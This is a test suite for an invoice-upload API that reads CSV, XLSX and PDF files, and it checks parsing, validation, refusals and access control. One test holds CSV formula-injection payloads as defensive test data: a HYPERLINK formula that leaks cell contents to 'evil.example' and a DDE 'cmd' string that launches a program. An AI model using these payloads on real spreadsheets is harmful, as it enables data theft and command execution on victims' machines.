import { useTestApp } from '../../test/app';
import {
  countRows,
  createProduct,
  createSupplier,
  memberOf,
  storeWithMember,
} from '../../test/factories';
import { csvOf, imagePdf, textPdf, uploadInvoice, xlsxOf } from '../../test/invoices';

/** Reading invoice files: formats, tolerant columns, refusals, and nothing stored half-way. */
const t = useTestApp();

const TABLE = [
  ['Description', 'Qty', 'Unit Cost', 'Total', 'UPC', 'SKU'],
  ['Organic Milk 1L', 12, 1.25, 15, '', 'MLK-1'],
  ['Brown Bread 500g', 4, 2.1, 8.4, '', 'BRD-2'],
];

const nothingStored = async (storeId: string) => {
  expect(await countRows(t, 'invoices', storeId)).toBe(0);
  expect(await countRows(t, 'invoice_lines', storeId)).toBe(0);
};

test('when a well-formed CSV invoice is uploaded, then its header fields and lines are read, stored as pending and announced', async () => {
  const s = await storeWithMember(t, 'manager');
  const supplier = await createSupplier(s, { name: 'ACME Foods' });
  const file = csvOf([
    ['Supplier', 'ACME Foods'],
    ['Invoice No', 'INV-7', 'Date', '2026-11-20'],
    ['Due Date', '2026-12-20'],
    [],
    ...TABLE,
    ['Subtotal', '', '', '23.40'],
    ['VAT', '', '', '2.34'],
    ['Total', '', '', '25.74'],
  ]);
  const res = await uploadInvoice(s, file, 'acme.csv').expect(201);
  const data = res.body.data;
  expect(data.status).toBe('pending');
  expect(data.extractedData).toEqual({
    invoiceNumber: 'INV-7',
    invoiceDate: '2026-11-20',
    dueDate: '2026-12-20',
    supplierName: 'ACME Foods',
    subtotal: 23.4,
    tax: 2.34,
    total: 25.74,
    lines: [
      {
        position: 0,
        description: 'Organic Milk 1L',
        quantity: 12,
        unitCost: 1.25,
        total: 15,
        upc: null,
        sku: 'MLK-1',
        ocr: null,
      },
      {
        position: 1,
        description: 'Brown Bread 500g',
        quantity: 4,
        unitCost: 2.1,
        total: 8.4,
        upc: null,
        sku: 'BRD-2',
        ocr: null,
      },
    ],
  });
  // The supplier was found by the name in the file.
  expect(data.invoice).toEqual(
    expect.objectContaining({
      supplier: { id: supplier.id, name: 'ACME Foods' },
      fileType: 'csv',
      fileName: 'acme.csv',
      lineCount: 2,
    }),
  );
  expect(data.matchingResults).toEqual(
    expect.objectContaining({ matched: 0, unmatched: 2, conflicts: 0 }),
  );
  const { rows } = await t.db.pool.query(
    `SELECT invoice_number, invoice_date::text, due_date::text, total, status, supplier_id, supplier_name
     FROM invoices WHERE store_id = $1`,
    [s.storeId],
  );
  expect(rows).toEqual([
    {
      invoice_number: 'INV-7',
      invoice_date: '2026-11-20',
      due_date: '2026-12-20',
      total: '25.74',
      status: 'pending',
      supplier_id: supplier.id,
      supplier_name: 'ACME Foods',
    },
  ]);
  expect(await countRows(t, 'invoice_lines', s.storeId)).toBe(2);
  const feed = await t.api.get(`${s.url}/events?type=invoice.updated`).set(s.auth).expect(200);
  expect(feed.body.data.map((e: { payload: unknown }) => e.payload)).toEqual([
    { invoiceId: data.invoiceId, status: 'pending', change: 'uploaded' },
  ]);

  // The same supplier's invoice number again: 409, nothing more stored.
  const again = await uploadInvoice(s, file, 'acme-again.csv').expect(409);
  expect(again.body.error.code).toBe('CONFLICT');
  expect(await countRows(t, 'invoices', s.storeId)).toBe(1);
});

test('when the columns are reordered, renamed and in other cases, and the file is XLSX, then the lines read the same', async () => {
  const s = await storeWithMember(t);
  const file = await xlsxOf([
    ['INVOICE #: X-1'],
    ['vendor', 'Green Farms', '', 'due', '2026-12-01'],
    [],
    ['item code', 'AMOUNT', 'qty', 'Product', 'unit price', 'EAN'],
    ['MLK-1', 15, 12, 'Organic Milk 1L', 1.25, '4006381333931'],
    ['BRD-2', 8.4, 4, 'Brown Bread 500g', 2.1, undefined],
  ]);
  const res = await uploadInvoice(s, file, 'green.xlsx').expect(201);
  const d = res.body.data.extractedData;
  expect([d.invoiceNumber, d.supplierName, d.dueDate]).toEqual([
    'X-1',
    'Green Farms',
    '2026-12-01',
  ]);
  expect(d.lines).toEqual([
    {
      position: 0,
      description: 'Organic Milk 1L',
      quantity: 12,
      unitCost: 1.25,
      total: 15,
      upc: '4006381333931',
      sku: 'MLK-1',
      ocr: null,
    },
    {
      position: 1,
      description: 'Brown Bread 500g',
      quantity: 4,
      unitCost: 2.1,
      total: 8.4,
      upc: null,
      sku: 'BRD-2',
      ocr: null,
    },
  ]);
  expect(res.body.data.invoice).toEqual(
    expect.objectContaining({ fileType: 'xlsx', supplier: null, supplierName: 'Green Farms' }),
  );
});

test('when the line table misses required columns, then 422 names them and nothing is stored', async () => {
  const s = await storeWithMember(t);
  const res = await uploadInvoice(
    s,
    csvOf([
      ['Item', 'Notes'],
      ['Milk', 'fresh'],
    ]),
    'x.csv',
  ).expect(422);
  expect(res.body.error.message).toMatch(/No line table found/);
  const missing = await uploadInvoice(
    s,
    csvOf([
      ['Item', 'Total'],
      ['Milk', '3.00'],
    ]),
    'x.csv',
  ).expect(422);
  expect(missing.body.error.message).toMatch(/missing the column quantity \(or qty\)/);
  expect(missing.body.error.details).toEqual([
    expect.objectContaining({ field: 'quantity', code: 'missing_column' }),
  ]);
  await nothingStored(s.storeId);
});

test('when cells hold the wrong types, then 422 lists each by row and column and nothing is stored', async () => {
  const s = await storeWithMember(t);
  const res = await uploadInvoice(
    s,
    csvOf([
      ['Description', 'Qty', 'Price'],
      ['Milk', 'twelve', '1.25'],
      ['Bread', '2.5', '2.10'],
      ['Eggs', '6', 'cheap'],
      ['Apples', '3', '0.50'],
    ]),
    'x.csv',
  ).expect(422);
  expect(res.body.error.code).toBe('UNPROCESSABLE');
  expect(res.body.error.details).toEqual([
    { field: 'Row 2.quantity', message: '"twelve" is not a quantity', code: 'invalid' },
    { field: 'Row 3.quantity', message: '2.5 is not a whole number', code: 'invalid' },
    { field: 'Row 4.unitCost', message: '"cheap" is not an amount', code: 'invalid' },
  ]);
  await nothingStored(s.storeId);
});

test('when the file is empty, blank, too large or not an invoice format, then it is refused in the envelope', async () => {
  const s = await storeWithMember(t);
  expect(
    (await uploadInvoice(s, Buffer.alloc(0), 'empty.csv').expect(422)).body.error.message,
  ).toBe('The file is empty');
  expect(
    (await uploadInvoice(s, Buffer.from('\n,,\n\n'), 'blank.csv').expect(422)).body.error.message,
  ).toBe('The file is empty');
  // 20 MB: multer stops at 10 MB and answers 413 without keeping the rest.
  const big = Buffer.alloc(20 * 1024 * 1024, 'a,1,2\n');
  const tooBig = await uploadInvoice(s, big, 'big.csv').expect(413);
  expect(tooBig.body.error.code).toBe('PAYLOAD_TOO_LARGE');
  const binary = Buffer.from([
    0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0, 1, 2, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
  ]);
  const png = await uploadInvoice(s, binary, 'invoice.csv').expect(415);
  expect(png.body.error.message).toMatch(/\.csv, \.xlsx or \.pdf/);
  const noFile = await s.api
    .post(`${s.url}/invoices`)
    .set(s.auth)
    .field('supplierId', s.storeId)
    .expect(400);
  expect(noFile.body.error.details.map((d: { field: string }) => d.field)).toContain('file');
  await nothingStored(s.storeId);
});

test('when a text PDF is uploaded, even renamed .csv, then it is read as a PDF: header fields and the lines whose quantity × price = total', async () => {
  const s = await storeWithMember(t);
  const pdf = await textPdf([
    'Fresh Dairy Co',
    'Invoice No: FD-2026-118',
    'Invoice Date: 20/11/2026',
    'Due Date: 2026-12-20',
    'SKU  Description  Qty  Unit Price  Total',
    'MLK-1  Organic Milk 1L  12  1.25  15.00',
    'Brown Bread 500g  4  2.10  8.40',
    'Delivered on pallet 3 of 4',
    'Subtotal 23.40',
    'VAT (10%) 2.34',
    'Total 25.74',
  ]);
  const res = await uploadInvoice(s, pdf, 'invoice.csv').expect(201);
  const d = res.body.data.extractedData;
  expect(res.body.data.invoice.fileType).toBe('pdf');
  expect([d.supplierName, d.invoiceNumber, d.invoiceDate, d.dueDate]).toEqual([
    'Fresh Dairy Co',
    'FD-2026-118',
    '2026-11-20',
    '2026-12-20',
  ]);
  expect([d.subtotal, d.tax, d.total]).toEqual([23.4, 2.34, 25.74]);
  expect(d.lines).toEqual([
    {
      position: 0,
      description: 'Organic Milk 1L',
      quantity: 12,
      unitCost: 1.25,
      total: 15,
      upc: null,
      sku: 'MLK-1',
      ocr: null,
    },
    {
      position: 1,
      description: 'Brown Bread 500g',
      quantity: 4,
      unitCost: 2.1,
      total: 8.4,
      upc: null,
      sku: null,
      ocr: null,
    },
  ]);
});

test('when a PDF has no text layer (a scan) and OCR reads nothing from it, then 422 says so; a PDF with text but no lines says what a line needs', async () => {
  const s = await storeWithMember(t);
  const scan = await uploadInvoice(s, await imagePdf(), 'scan.pdf').expect(422);
  // (Without the OCR engines installed, the 422 says how to install them.)
  expect(scan.body.error.message).toMatch(
    /No text could be read from the scan by OCR|apt-get install/,
  );
  const letter = await uploadInvoice(
    s,
    await textPdf(['Dear customer,', 'thank you for your order.']),
    'letter.pdf',
  ).expect(422);
  expect(letter.body.error.message).toMatch(/No invoice lines found in the PDF/);
  const broken = await uploadInvoice(
    s,
    Buffer.from('%PDF-1.7\nnot really a pdf\n'),
    'broken.pdf',
  ).expect(422);
  expect(broken.body.error.message).toMatch(/could not be read/);
  await nothingStored(s.storeId);
});

test('when cells hold formulas, then they are stored as text and never evaluated', async () => {
  const s = await storeWithMember(t);
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  const cmd = "+cmd|' /C calc'!A0";
  const res = await uploadInvoice(
    s,
    csvOf([
      ['Description', 'SKU', 'Qty', 'Unit Cost'],
      [evil, cmd, 1, 2],
      ['@SUM(1+1)', '-2+3', 2, 1],
    ]),
    'f.csv',
  ).expect(201);
  const lines = res.body.data.extractedData.lines;
  expect(lines.map((l: { description: string; sku: string }) => [l.description, l.sku])).toEqual([
    [evil, cmd],
    ['@SUM(1+1)', '-2+3'],
  ]);
  const { rows } = await t.db.pool.query(
    'SELECT description, sku FROM invoice_lines WHERE store_id = $1 ORDER BY position',
    [s.storeId],
  );
  expect(rows).toEqual([
    { description: evil, sku: cmd },
    { description: '@SUM(1+1)', sku: '-2+3' },
  ]);
  // A formula where a number belongs is not worked out: it is not a number.
  const calc = await uploadInvoice(
    s,
    csvOf([
      ['Description', 'Qty', 'Unit Cost'],
      ['Milk', '=2*3', 1],
    ]),
    'g.csv',
  ).expect(422);
  expect(calc.body.error.details[0]).toEqual(expect.objectContaining({ field: 'Row 2.quantity' }));
  // An XLSX formula cell gives its saved value, and its formula text is never run.
  const book = await xlsxOf([
    ['Description', 'Qty', 'Unit Cost', 'Total'],
    ['Milk', 2, 1.5, { formula: 'B2*C2', result: 3 }],
  ]);
  const x = await uploadInvoice(s, book, 'h.xlsx').expect(201);
  expect(x.body.data.extractedData.lines[0]).toEqual(
    expect.objectContaining({ quantity: 2, total: 3 }),
  );
});

test('when a supplierId is not one of the store, then 400 names it; employees and viewers cannot upload (403); another store cannot read the invoice (404)', async () => {
  const s = await storeWithMember(t, 'admin');
  const other = await storeWithMember(t, 'admin');
  const foreign = await createSupplier(other);
  const bad = await uploadInvoice(s, csvOf(TABLE), 'x.csv', { supplierId: foreign.id }).expect(400);
  expect(bad.body.error.details).toEqual([expect.objectContaining({ field: 'supplierId' })]);
  const unknownField = await uploadInvoice(s, csvOf(TABLE), 'x.csv', { vendor: 'x' }).expect(400);
  expect(unknownField.body.error.details[0].field).toBe('vendor');
  await nothingStored(s.storeId);

  for (const role of ['employee', 'viewer'] as const) {
    const m = await memberOf(t, s.storeId, role);
    await uploadInvoice(m, csvOf(TABLE), 'x.csv').expect(403);
    await m.api.get(`${m.url}/invoices`).set(m.auth).expect(403);
  }
  await nothingStored(s.storeId);
  const mine = (await uploadInvoice(s, csvOf(TABLE), 'x.csv').expect(201)).body.data.invoiceId;
  await other.api.get(`${other.url}/invoices/${mine}`).set(other.auth).expect(404);
  await other.api
    .put(`${other.url}/invoices/${mine}/status`)
    .set(other.auth)
    .send({ status: 'paid' })
    .expect(404);
  await s.api.get(`${s.url}/invoices/${mine}`).set(other.auth).expect(403);
  await createProduct(s, { name: 'Organic Milk 1L', price: 2 });
});
